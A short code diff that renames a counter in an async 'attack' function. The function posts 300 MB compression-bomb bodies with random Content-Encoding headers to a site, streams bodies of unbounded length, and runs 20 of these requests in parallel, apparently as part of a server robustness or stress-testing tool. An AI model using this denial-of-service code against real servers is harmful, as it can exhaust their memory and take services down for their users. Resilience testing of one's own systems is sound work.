@@ -22,13 +22,13 @@ def _bomb(megabytes: int) -> bytes:
 
 
 async def attack(site: Site, until: float) -> str:
-    told: Counter[str] = Counter()
+    received: Counter[str] = Counter()
     bomb = _bomb(300)
 
     async def post() -> None:
         headers = {"Content-Encoding": random.choice(["gzip", "deflate", "br", "zstd"])}
         async with site.http.post(site.url + random.choice(PATHS), data=bomb, headers=headers) as answer:
-            told[str(answer.status)] += 1
+            received[str(answer.status)] += 1
 
     async def stream() -> None:
         async def body():  # type: ignore[no-untyped-def]
@@ -36,7 +36,7 @@ async def attack(site: Site, until: float) -> str:
                 yield bytes(1 << 16)
 
         async with site.http.post(site.url + random.choice(PATHS), data=body()) as answer:
-            told[str(answer.status)] += 1
+            received[str(answer.status)] += 1
 
     count = await in_parallel(20, lambda: random.choice([post, stream])(), until)
-    return f"{count} bodies of {len(bomb) // 1024} kB or without a length: {summed(told)}"
+    return f"{count} bodies of {len(bomb) // 1024} kB or without a length: {summed(received)}"
